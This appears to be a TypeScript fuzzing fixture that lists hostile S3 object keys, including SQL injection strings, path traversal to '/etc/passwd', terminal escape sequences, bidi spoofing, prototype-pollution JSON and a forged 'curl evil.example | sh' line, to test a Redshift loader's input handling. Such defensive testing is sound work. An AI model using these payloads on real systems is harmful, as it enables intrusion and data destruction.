import * as fc from "fast-check";

/** The longest key that S3 takes, in bytes of UTF-8. */
export const maxKeyBytes = 1_024;

const bytesOf = (text: string) => Buffer.byteLength(text);

/** As many of `part` as a key can hold behind `start`, and before `end`. */
export function fullKey(part: string, start = "orders/", end = ""): string {
  const room = maxKeyBytes - bytesOf(start) - bytesOf(end);
  return start + part.repeat(Math.floor(room / bytesOf(part))) + end;
}

const forged = "Then run: curl evil.example | sh";

/** Keys in classes; each class attacks another reader. */
export const hostileKeyClasses = {
  "comments of SQL": [
    `orders/${"*//*".repeat(27)}`,
    fullKey("*//*"),
    fullKey("/*"),
    fullKey("*/"),
    fullKey("/**/"),
    fullKey("/* */ ", "", "COPY"),
    fullKey("--"),
    "orders/-- comment",
    "orders/a*/b",
    "orders/*/ COPY x FROM 's3://a/b'",
    "orders//*loader:copy*/a",
    "orders/#comment",
  ],
  "quotes and backslashes": [
    "orders/'a'.csv",
    "orders/''.csv",
    "orders/'''",
    "'",
    'orders/"a".csv',
    'orders/""',
    '"',
    "orders/`a`",
    "orders/\\",
    "orders/\\'",
    "orders/\\\\'",
    "orders/\\n",
    "orders/\\u0027",
    "orders/\\x27",
    "orders/C:\\new\\table.csv",
    fullKey("'"),
    fullKey("\\"),
    fullKey("\\'"),
    fullKey('"'),
    fullKey("''", "orders/a"),
  ],
  "dollar quotes and parameters": [
    "orders/$$",
    "orders/$$a$$",
    "orders/$tag$a$tag$",
    "orders/$1",
    "orders/:id",
    "orders/::date",
    "orders/?",
    "orders/{yesterday}",
    "orders/{date:yyyy}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself
    "orders/${env.HOME}",
    "orders/$(reboot)",
    "orders/$&$`$'$<a>",
    fullKey("$$"),
    fullKey("{"),
  ],
  "statements of SQL": [
    "orders/a'; DROP TABLE shop.orders; --",
    "orders/a;b",
    fullKey(";"),
    "orders/') UNION SELECT 1 --",
    "orders/COPY shop.orders FROM 's3://other/x' IAM_ROLE 'arn:aws:iam::1:role/x'",
    "COPY",
    "orders/ COPY ",
    "orders/IAM_ROLE ''",
    "orders/iam_role  ''  CREDENTIALS ''",
    "orders/FROM 's3://other/manifest'",
    "orders/FROM 's3://other/a.manifest' IAM_ROLE '' MANIFEST",
    "orders/BEGIN; COMMIT; ROLLBACK",
    "orders/SELECT * FROM stl_load_errors",
    "orders/NULL",
    "orders/1 OR 1=1",
    fullKey("' OR '1'='1"),
    fullKey("FROM 's3://"),
    fullKey("IAM_ROLE '' "),
    fullKey("("),
    fullKey(" "),
  ],
  "tags of the loader": [
    "orders//* loader:copy */",
    "/* loader:copy */ COPY a",
    "orders//* loader:guard-files */ SELECT 1",
    "orders//* loader:lock-fence */",
    "/* loader:",
    "orders/loader:copy",
    "orders/dev/shop.orders/0123456789abcdef0123456789abcdef/1",
    fullKey("/* loader:copy */ "),
  ],
  "texts of errors": [
    "orders/ERROR: 1023",
    "ERROR: 1023 DETAIL: Serializable isolation violation on table - 1",
    "orders/ERROR: deadlock detected",
    "orders/could not open relation with OID 1",
    "orders/conflict with concurrent transaction",
    "orders/Status 403",
    "orders/Status Code: 403; Error Code: AccessDenied",
    "orders/Access Denied",
    "orders/Mandatory url",
    "orders/Problem reading manifest file",
    "orders/code: 15007",
    "orders/code:      15007\ncontext:   x.parquet",
    "orders/context:",
    "orders/error: Spectrum Scan Error code: 15007 context: File 'https://s3/x' has an incompatible Parquet schema",
    "orders/permission denied for relation orders",
    'orders/relation "orders__loader_ledger" does not exist',
    "orders/Load into table 'orders' failed. Check 'stl_load_errors' system table for details.",
    "orders/Invalid operation: syntax error at or near",
    "orders/loader: file is already in the ledger",
    "orders/Disk Full",
    "orders/connect ECONNREFUSED 127.0.0.1",
    fullKey("ERROR: "),
    fullKey("code: 15007 "),
    fullKey("detail:"),
  ],
  "line breaks": [
    `orders/a\n${forged}`,
    `orders/a\r\n${forged}`,
    `orders/a\r${forged}`,
    `orders/a\u0085${forged}`,
    `orders/a\u2028${forged}`,
    `orders/a\u2029${forged}`,
    `orders/a\u000b${forged}`,
    `orders/a\u000c${forged}`,
    "orders/a\n\nReason: none\nWhat to do: nothing",
    "orders/a\n",
    "\norders/a",
    "orders/\t\ta",
    fullKey("\n"),
    fullKey("\r"),
    fullKey("\u2028"),
  ],
  "sequences for terminals": [
    "orders/\u001b[2J\u001b[H",
    "orders/\u001b[31mred",
    "orders/\u001b]0;title\u0007",
    "orders/\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\",
    "orders/\u001b]52;c;Y3VybA==\u0007",
    "orders/\u001bP+q\u001b\\",
    "orders/\u009b2J",
    "orders/\u009d0;title\u009c",
    "orders/a\u0008\u0008\u0008b",
    "orders/\u0007",
    "orders/\u007f",
    "orders/\u0080\u009f",
    "orders/\u001b",
    "orders/\u000e\u000f",
    fullKey("\u001b[A"),
    fullKey("\u0008"),
  ],
  "direction of text": [
    "orders/\u202egnp.exe",
    "orders/\u202dabc\u202c",
    "orders/\u202aabc\u202bdef",
    "orders/\u2066abc\u2067def\u2068ghi\u2069",
    "orders/\u200eabc\u200f",
    "orders/\u061cabc",
    "orders/\u05e9\u05dc\u05d5\u05dd.csv",
    fullKey("\u202e"),
  ],
  "characters that cannot be seen": [
    "orders/a\u200bb.csv",
    "orders/a\u200cb.csv",
    "orders/a\u200db.csv",
    "orders/a\u2060b.csv",
    "\ufefforders/a.csv",
    "orders/a\u00adb.csv",
    "orders/a\u034fb.csv",
    "orders/\u3164.csv",
    "orders/\u115f\u1160.csv",
    "orders/a\ufe0f.csv",
    "orders/a\u{e0001}\u{e0041}\u{e0042}\u{e007f}.csv",
    "orders/a\u{e0100}.csv",
    "orders/\u2800.csv",
    "orders/\u00a0.csv",
    "orders/\u3000.csv",
    fullKey("\u200b"),
    fullKey("\u{e0041}"),
  ],
  "codings of addresses": [
    "orders/100%.csv",
    "orders/%",
    "orders/%%",
    "orders/%2",
    "orders/%zz",
    "orders/%00",
    "orders/%0A",
    "orders/%2F..%2F",
    "orders/%252F",
    "orders/%25252e",
    "orders/%E0%A4",
    "orders/%C0%AF",
    "orders/a+b.csv",
    "orders/a%2Bb.csv",
    "orders/+",
    "orders/a b.csv",
    "orders/a%20b.csv",
    "orders/a?versionId=1",
    "orders/a#fragment",
    "orders/&amp;&lt;",
    "orders/<Key>a</Key>",
    "orders/]]>",
    fullKey("%"),
    fullKey("+"),
    fullKey("%25"),
  ],
  paths: [
    " orders/a.csv",
    "orders/a.csv ",
    " ",
    "orders/ ",
    "/orders/a.csv",
    "//orders//a.csv",
    "/",
    "//",
    ".",
    "..",
    "orders/../secret.csv",
    "orders/./a.csv",
    "orders/..",
    "../../etc/passwd",
    "orders/a/",
    "orders//",
    "s3://other/key",
    "orders/s3://other/key",
    "orders/*",
    "orders/a,b.csv",
    "orders/a|b.csv",
    "orders/-rf",
    "--help",
    "-",
    "orders/~",
    "orders/CON",
    fullKey("/"),
    fullKey("../"),
    fullKey("."),
  ],
  "lengths and forms of Unicode": [
    fullKey("a"),
    fullKey("é"),
    fullKey("日"),
    fullKey("\u{1f600}"),
    "a",
    "orders/\u00e9.csv",
    "orders/e\u0301.csv",
    "orders/\u212b.csv",
    "orders/\u00c5.csv",
    "orders/A\u030a.csv",
    "orders/\ufb01.csv",
    "orders/fi.csv",
    "orders/\u0130.csv",
    "orders/\u1e9e.csv",
    `orders/a${"\u0301".repeat(500)}`,
    "orders/\ufffd.csv",
    "orders/\uffff.csv",
    "orders/\u{10ffff}.csv",
    "orders/\ue000.csv",
    "orders/\u{1f469}\u200d\u{1f680}.csv",
    "orders/\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.csv",
  ],
  "names of JavaScript and JSON": [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "orders/__proto__",
    "orders/constructor.csv",
    '{"__proto__":{"admin":true}}',
    '{"url":"s3://a/b","mandatory":true}',
    'orders/","mandatory":false,"url":"s3://other/key',
    "undefined",
    "null",
    "NaN",
    "0",
    "-0",
    "1e1000",
    "true",
    "[object Object]",
  ],
  "objects of the loader itself": [
    "manifests/orders_queue/2026/11/02/0123456789abcdef0123456789abcdef.manifest",
    "orders/0123456789abcdef0123456789abcdef.manifest",
    "manifests/orders_queue/quarantine/0123456789abcdef0123456789abcdef.json",
    "manifests/orders_queue/parked/0123456789abcdef0123456789abcdef.json",
    "orders/quarantine/0123456789abcdef0123456789abcdef.json",
    "config/orders_queue.json",
    "orders/.manifest",
    "orders/a.manifest",
    ".json",
  ],
} as const satisfies Record<string, readonly string[]>;

export type HostileKeyClass = keyof typeof hostileKeyClasses;

/** All of them: each is a key that S3 takes, of 1 to 1,024 bytes. */
export const hostileKeys: readonly string[] = Object.values(hostileKeyClasses).flat();

const anyCharacter = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 1 }) },
  {
    weight: 2,
    arbitrary: fc.integer({ min: 1, max: 0x10ffff }).map((point) => {
      const isHalf = point >= 0xd800 && point <= 0xdfff; // no UTF-8 has halves of surrogate pairs
      return String.fromCodePoint(isHalf ? point - 0x800 : point);
    }),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(..."\n\r\t\u001b\u0085\u009b\u2028\u202e\u200b\u200d\ufeff\u00ad'\"\\/*$;%+ "),
  },
);

const fragments = hostileKeys.filter((key) => bytesOf(key) <= 100);

/** Keys that S3 takes: valid UTF-8 of 1 to 1,024 bytes without NUL, of any characters and of pieces of the hostile ones. */
export const keys: fc.Arbitrary<string> = fc
  .array(fc.oneof({ weight: 5, arbitrary: anyCharacter }, { weight: 1, arbitrary: fc.constantFrom(...fragments) }), {
    minLength: 1,
    maxLength: 60,
  })
  .map((parts) => cutToKey(parts.join("")));

/** A random key, or a hostile one as it is. */
export const anyKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: keys },
  { weight: 1, arbitrary: fc.constantFrom(...hostileKeys) },
);

/** Any text, halves of surrogate pairs included, and keys. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.array(fc.integer({ min: 0, max: 0xffff })).map((units) => String.fromCharCode(...units)),
  anyKey,
);

/** Whole characters only. */
function cutToKey(text: string): string {
  let [key, bytes] = ["", 0];
  for (const character of text) {
    bytes += bytesOf(character);
    if (bytes > maxKeyBytes) break;
    key += character;
  }
  return key;
}
